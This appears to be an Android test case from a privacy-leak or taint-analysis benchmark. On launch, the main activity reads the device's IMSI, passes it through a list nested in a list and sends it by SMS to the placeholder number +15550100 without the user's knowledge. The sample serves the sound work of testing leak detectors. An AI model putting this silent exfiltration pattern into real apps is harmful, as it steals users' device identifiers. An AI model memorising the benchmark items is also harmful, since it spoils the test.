// about       Lists in a list: the inner list with the value is joined and sent.
// leak        DEV_IMSI sms
package cn.example.flow;

import android.app.Activity;
import android.content.Context;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;
import android.text.TextUtils;
import java.util.ArrayList;
import java.util.List;

public class MainActivity extends Activity {
  @Override
  protected void onCreate(Bundle state) {
    super.onCreate(state);
    TelephonyManager phone = (TelephonyManager) getSystemService(Context.TELEPHONY_SERVICE);
    List<List<String>> groups = new ArrayList<List<String>>();
    groups.add(new ArrayList<String>());
    groups.add(new ArrayList<String>());
    groups.get(0).add("plain");
    groups.get(1).add(phone.getSubscriberId());
    // The second group.
    String text = TextUtils.join(",", groups.get(1));
    SmsManager.getDefault().sendTextMessage("+15550100", null, text, null, null);
  }
}
